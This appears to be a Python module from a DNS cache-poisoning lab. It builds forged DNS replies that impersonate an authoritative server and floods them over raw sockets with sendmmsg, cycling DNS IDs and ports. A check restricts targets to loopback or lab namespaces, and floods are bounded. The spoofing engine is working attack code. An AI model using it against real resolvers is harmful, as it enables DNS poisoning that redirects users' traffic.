"""Real forged DNS replies: a raw-socket spoofer that sends from prebuilt templates, fast.

Owns: checking where forged traffic may go (`check_target`), turning one DNS reply message
(`ReplyTemplate`, built by the caller) into a complete IPv4+UDP packet whose source is the
impersonated authoritative server, and sending a bounded flood of it (`Spoofer.flood`) with
only the DNS ID, the UDP destination port and (once per flood) the question name patched
in place. The fast path keeps `batch` copies of the packet in one preallocated ctypes
buffer with an `mmsghdr`/`iovec` array pointing into it, patches a whole batch's IDs and
ports with two strided memoryview writes each, and hands the batch to the kernel with one
`sendmmsg(2)` call through ctypes; without `sendmmsg` it falls back to one `sendto` per
packet.

Must never: send to, or forge a source address outside, loopback (127.0.0.0/8, ::1) or
a network namespace the lab created itself (`allowed`, e.g. `LabNet.owns`) — the source is
checked too, because ICMP errors and any answers go back to it; flood without a bound
(`max_packets` and `max_seconds` are required and finite, and the flood stops by itself at
either); resolve host names (targets are IP literals only).

IPv4 only: the socket is `socket(AF_INET, SOCK_RAW, IPPROTO_RAW)`, which implies
IP_HDRINCL and needs CAP_NET_RAW (root, or root in a user+network namespace made by
`unshare -rn`). The IPv4 header is fixed for a flood: Linux always fills in the header
checksum and total length of an IP_HDRINCL packet and picks the IP ID when it is zero
(raw(7); checked on loopback: a packet sent with all three zero arrives with them
filled in), so nothing in the IP header changes per packet. The UDP checksum is 0, which
IPv4 allows ("no checksum"), so patching the ID or port needs no checksum update either.
"""

from __future__ import annotations

import ctypes
import errno
import ipaddress
import logging
import math
import socket
import struct
import sys
import time
from array import array
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from itertools import islice
from types import TracebackType

log = logging.getLogger("poisonproof.lab.spoofer")

IP_HEADER = 20
UDP_HEADER = 8
HEADERS = IP_HEADER + UDP_HEADER
PACE_STEP = 0.002
"""A paced flood sends this many seconds' worth of packets per batch."""
_LITTLE = sys.byteorder == "little"
_SLOT_ALIGN = 16

RULE = (
    "forged traffic goes only to loopback (127.0.0.0/8, ::1) or to a network namespace "
    "the lab created itself"
)


class UnsafeTarget(ValueError):
    """An address forged traffic must not go to (or claim to come from)."""


def check_target(address: str, allowed: Callable[[str], bool] | None = None) -> None:
    """Raise `UnsafeTarget` unless `address` is loopback or `allowed(address)` is True.

    `address` must be an IP literal (no names are resolved). Loopback (127.0.0.0/8, ::1)
    is always allowed; any other address only when `allowed` is given and returns True for
    its normalized text form (the lab passes `LabNet.owns` for the namespaces it made).
    """
    try:
        ip = ipaddress.ip_address(address)
    except ValueError:
        raise UnsafeTarget(f"refusing {address!r}: not an IP address; {RULE}") from None
    if ip.is_loopback:
        return
    if allowed is not None and allowed(str(ip)):
        return
    why = "allowed() refused it" if allowed is not None else "no lab namespace owns it"
    raise UnsafeTarget(f"refusing {address}: {why}; {RULE}")


def _name_end(payload: bytes, offset: int) -> int:
    """The offset just past the uncompressed wire-format name that starts at `offset`."""
    pos = offset
    while True:
        if pos >= len(payload):
            raise ValueError(f"the question name at offset {offset} runs past the message")
        length = payload[pos]
        if length == 0:
            return pos + 1
        if length & 0xC0:
            raise ValueError(f"the question name at offset {offset} is compressed")
        pos += 1 + length


@dataclass(frozen=True)
class ReplyTemplate:
    """A DNS reply message in wire form, with where its ID and question name are.

    `payload` is built by the caller (e.g. with dnspython) and includes the question; a
    reply rendered with name compression points its answer owners at the question name,
    so patching the question name (same length only) renames them too.
    """

    payload: bytes
    id_offset: int = 0
    name_offset: int = 12

    def __post_init__(self) -> None:
        if len(self.payload) < 12:
            raise ValueError("a DNS message is at least 12 bytes")
        if len(self.payload) + HEADERS > 0xFFFF:
            raise ValueError("the reply does not fit in one IPv4 packet")
        if not 0 <= self.id_offset <= len(self.payload) - 2:
            raise ValueError("id_offset is outside the message")
        _name_end(self.payload, self.name_offset)

    @property
    def name_length(self) -> int:
        """The length in bytes of the question name (wire form, final root label included)."""
        return _name_end(self.payload, self.name_offset) - self.name_offset


@dataclass(frozen=True)
class FloodStats:
    """What one flood did: packets the kernel accepted, wall time, system calls, errors."""

    packets: int
    seconds: float
    rate: float
    syscalls: int
    errors: int


class _IoVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class _MsgHdr(ctypes.Structure):
    _fields_ = [
        ("msg_name", ctypes.c_void_p),
        ("msg_namelen", ctypes.c_uint32),
        ("msg_iov", ctypes.POINTER(_IoVec)),
        ("msg_iovlen", ctypes.c_size_t),
        ("msg_control", ctypes.c_void_p),
        ("msg_controllen", ctypes.c_size_t),
        ("msg_flags", ctypes.c_int),
    ]


class _MMsgHdr(ctypes.Structure):
    _fields_ = [("msg_hdr", _MsgHdr), ("msg_len", ctypes.c_uint)]


class _SockAddrIn(ctypes.Structure):
    _fields_ = [
        ("sin_family", ctypes.c_ushort),
        ("sin_port", ctypes.c_uint16),
        ("sin_addr", ctypes.c_uint8 * 4),
        ("sin_zero", ctypes.c_uint8 * 8),
    ]


def _load_sendmmsg() -> Callable[..., int] | None:
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        function = libc.sendmmsg
    except (OSError, AttributeError):
        return None
    function.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
    function.restype = ctypes.c_int
    return function


_SENDMMSG = _load_sendmmsg()


def _be16(values: Iterable[int], what: str) -> bytes:
    """Values 0..65535 as consecutive big-endian 16-bit words."""
    try:
        words = array("H", values)
    except OverflowError:
        raise ValueError(f"{what} must be 0..65535") from None
    if _LITTLE:
        words.byteswap()
    return words.tobytes()


class _IdStream:
    """The DNS ID of each next packet, big-endian, each ID repeated once per port."""

    def __init__(self, ids: Iterable[int], repeat: int) -> None:
        self._ids: Iterator[int] = iter(ids)
        self._repeat = repeat
        self._current = b""
        self._left = 0

    def take(self, n: int) -> bytes:
        """The IDs of up to `n` packets (fewer only when the IDs run out)."""
        if self._repeat == 1:
            return _be16(islice(self._ids, n), "DNS IDs")
        parts = []
        wanted = n
        while wanted:
            if self._left == 0:
                value = next(self._ids, None)
                if value is None:
                    break
                self._current = _be16((value,), "DNS IDs")
                self._left = self._repeat
            k = min(wanted, self._left)
            parts.append(self._current * k)
            self._left -= k
            wanted -= k
        return b"".join(parts)


class _PortStream:
    """The destination port of each next packet, big-endian, cycling through `ports`."""

    def __init__(self, ports: Sequence[int], batch: int) -> None:
        one_round = _be16(ports, "ports")
        self._period = len(one_round)
        self._tile = one_round * -(-(batch + len(ports)) // len(ports))
        self._pos = 0

    def take(self, n: int) -> bytes:
        start = self._pos
        self._pos = (start + 2 * n) % self._period
        return self._tile[start : start + 2 * n]


class Spoofer:
    """Sends forged DNS replies from `source` (the impersonated server) to `target`.

    `source` is the forged (IPv4 address, UDP port), `target` the resolver's IPv4 address;
    both must pass `check_target(…, allowed)`. `batch` packets go to the kernel per
    `sendmmsg` call. `use_sendmmsg=False` forces the one-`sendto`-per-packet fallback.
    """

    def __init__(
        self,
        source: tuple[str, int],
        target: str,
        *,
        allowed: Callable[[str], bool] | None = None,
        batch: int = 1024,
        use_sendmmsg: bool = True,
    ) -> None:
        check_target(target, allowed)
        check_target(source[0], allowed)
        target_ip = ipaddress.ip_address(target)
        source_ip = ipaddress.ip_address(source[0])
        if target_ip.version != 4 or source_ip.version != 4:
            raise ValueError("the spoofer sends IPv4 only")
        if not 0 <= source[1] <= 0xFFFF:
            raise ValueError("the source port must be 0..65535")
        if not 1 <= batch <= 1024:  # UIO_MAXIOV: sendmmsg takes at most 1024 messages
            raise ValueError("batch must be 1..1024")
        self.source = (str(source_ip), source[1])
        self.target = str(target_ip)
        self.batch = batch
        self._src = source_ip.packed
        self._dst = target_ip.packed
        self._sendmmsg = _SENDMMSG if use_sendmmsg else None
        self._sock: socket.socket | None = socket.socket(
            socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW
        )
        # A send never blocks longer than this, so a flood cannot overrun its time bound.
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 200_000))
        self._addr = _SockAddrIn(socket.AF_INET, 0, (ctypes.c_uint8 * 4)(*self._dst))
        self._stride = 0
        self._buf: ctypes.Array[ctypes.c_char] | None = None
        self._iov: ctypes.Array[_IoVec] | None = None
        self._msgs: ctypes.Array[_MMsgHdr] | None = None

    @property
    def fast(self) -> bool:
        """Whether floods go out through `sendmmsg` (else one `sendto` per packet)."""
        return self._sendmmsg is not None

    def __enter__(self) -> Spoofer:
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.close()

    def close(self) -> None:
        if self._sock is not None:
            self._sock.close()
            self._sock = None

    def packet(self, template: ReplyTemplate, qname: bytes | None = None) -> bytes:
        """The complete IPv4 packet of `template` (destination port and DNS ID as in it)."""
        payload = bytearray(template.payload)
        if qname is not None:
            if len(qname) != template.name_length:
                raise ValueError(
                    f"qname is {len(qname)} bytes, the template's name {template.name_length}:"
                    " only same-length names are patched in place"
                )
            _name_end(bytes(qname), 0)
            payload[template.name_offset : template.name_offset + len(qname)] = qname
        total = HEADERS + len(payload)
        ip = bytearray(
            struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0, 64, 17, 0, self._src, self._dst)
        )
        struct.pack_into("!H", ip, 10, _ip_checksum(ip))  # the kernel refills it anyway
        udp = struct.pack("!HHHH", self.source[1], 0, UDP_HEADER + len(payload), 0)
        return bytes(ip) + udp + bytes(payload)

    def _prepare(self, frame: bytes) -> memoryview:
        """Copy `frame` into every slot of the batch buffer and aim the iovecs at them."""
        stride = -(-len(frame) // _SLOT_ALIGN) * _SLOT_ALIGN
        if stride != self._stride:
            self._stride = stride
            self._buf = (ctypes.c_char * (stride * self.batch))()
            self._iov = (_IoVec * self.batch)()
            self._msgs = (_MMsgHdr * self.batch)()
            base = ctypes.addressof(self._buf)
            for i in range(self.batch):
                self._iov[i].iov_base = base + i * stride
                hdr = self._msgs[i].msg_hdr
                hdr.msg_name = ctypes.addressof(self._addr)
                hdr.msg_namelen = ctypes.sizeof(_SockAddrIn)
                hdr.msg_iov = ctypes.pointer(self._iov[i])
                hdr.msg_iovlen = 1
        assert self._buf is not None and self._iov is not None
        for i in range(self.batch):
            self._iov[i].iov_len = len(frame)
        view = memoryview(self._buf).cast("B")
        view[:] = frame.ljust(stride, b"\0") * self.batch
        return view

    def flood(
        self,
        template: ReplyTemplate,
        ports: Sequence[int],
        ids: Iterable[int] | range,
        *,
        qname: bytes | None = None,
        max_packets: int,
        max_seconds: float,
        pace: float | None = None,
    ) -> FloodStats:
        """Send one forged reply per (port, ID) pair, ports cycling fastest.

        Packet k goes to port `ports[k % len(ports)]` with DNS ID `ids[k // len(ports)]`
        (`ids` may be any iterable, even an endless one, and is consumed lazily), all with
        the question name `qname` (wire form, same length as the template's) if given.
        Stops when the IDs run out, after `max_packets` packets, or once `max_seconds`
        have passed (checked before every batch and after a failed send), whichever comes
        first. A batch (at most 1024 packets) takes milliseconds and a blocked send times
        out after 0.2 s (SO_SNDTIMEO), so the bound is overrun by at most that much.
        A packet the kernel refuses is counted in `errors` and not sent again.
        With `pace` (packets per second) the packets go out in small batches (2 ms worth
        each) spread evenly at that rate, as RFC 5452's R assumes, instead of as fast as
        the kernel takes them (a burst fills the target's receive buffer at once).
        """
        if self._sock is None:
            raise ValueError("the spoofer is closed")
        if not ports:
            raise ValueError("no ports to send to")
        if max_packets < 0:
            raise ValueError("max_packets must be >= 0")
        if not (math.isfinite(max_seconds) and max_seconds > 0):
            raise ValueError("max_seconds must be a finite number > 0")
        if pace is not None and not (math.isfinite(pace) and pace > 0):
            raise ValueError("pace must be a finite number of packets per second > 0")
        chunk = self.batch if pace is None else max(1, min(self.batch, int(pace * PACE_STEP)))
        frame = self.packet(template, qname)
        view = self._prepare(frame)
        stride = self._stride
        id_at = HEADERS + template.id_offset
        port_at = IP_HEADER + 2
        id_stream = _IdStream(ids, len(ports))
        port_stream = _PortStream(ports, self.batch)
        sent = syscalls = errors = 0
        start = time.monotonic()
        deadline = start + max_seconds
        while sent < max_packets and time.monotonic() < deadline:
            if pace is not None:
                due = start + sent / pace
                if (wait := due - time.monotonic()) > 0:
                    time.sleep(min(wait, max(0.0, deadline - time.monotonic())))
            id_bytes = id_stream.take(min(chunk, max_packets - sent))
            n = len(id_bytes) // 2
            if n == 0:
                break
            port_bytes = port_stream.take(n)
            span = stride * (n - 1) + 1
            view[id_at : id_at + span : stride] = id_bytes[0::2]
            view[id_at + 1 : id_at + 1 + span : stride] = id_bytes[1::2]
            view[port_at : port_at + span : stride] = port_bytes[0::2]
            view[port_at + 1 : port_at + 1 + span : stride] = port_bytes[1::2]
            if self._sendmmsg is not None:
                ok, calls, failed = self._send_batch(n, deadline)
            else:
                ok, calls, failed = self._sendto_batch(view, len(frame), n, deadline)
            sent += ok
            syscalls += calls
            errors += failed
        seconds = time.monotonic() - start
        return FloodStats(sent, seconds, sent / seconds if seconds > 0 else 0.0, syscalls, errors)

    def _send_batch(self, n: int, deadline: float) -> tuple[int, int, int]:
        assert self._sock is not None and self._sendmmsg is not None and self._msgs is not None
        fd = self._sock.fileno()
        base = ctypes.addressof(self._msgs)
        size = ctypes.sizeof(_MMsgHdr)
        pos = sent = calls = failed = 0
        while pos < n:
            result = self._sendmmsg(fd, base + pos * size, n - pos, 0)
            calls += 1
            if result > 0:
                pos += result
                sent += result
                continue
            code = ctypes.get_errno()
            if code != errno.EINTR:
                failed += 1
                self._note_error(code)
                pos += 1  # the kernel refused the packet at `pos`: skip it
            if time.monotonic() >= deadline:
                break
        return sent, calls, failed

    def _sendto_batch(
        self, view: memoryview, length: int, n: int, deadline: float
    ) -> tuple[int, int, int]:
        assert self._sock is not None
        done = failed = calls = 0
        address = (self.target, 0)
        for i in range(n):
            calls += 1
            try:
                self._sock.sendto(view[i * self._stride : i * self._stride + length], address)
                done += 1
            except OSError as error:
                failed += 1
                self._note_error(error.errno or 0)
            if failed and time.monotonic() >= deadline:
                break
        return done, calls, failed

    def _note_error(self, code: int) -> None:
        log.debug("forged reply to %s refused: %s", self.target, errno.errorcode.get(code, code))


def _ip_checksum(header: bytes | bytearray) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
